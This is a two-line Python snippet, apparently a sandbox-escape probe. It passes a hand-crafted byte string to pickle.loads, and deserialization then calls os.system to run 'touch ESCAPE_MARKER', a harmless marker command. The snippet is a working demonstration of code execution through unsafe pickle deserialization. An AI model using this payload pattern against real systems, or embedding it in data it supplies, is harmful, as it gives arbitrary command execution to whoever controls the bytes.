import pickle
pickle.loads(b"cos\nsystem\n(S'touch ESCAPE_MARKER'\ntR.")
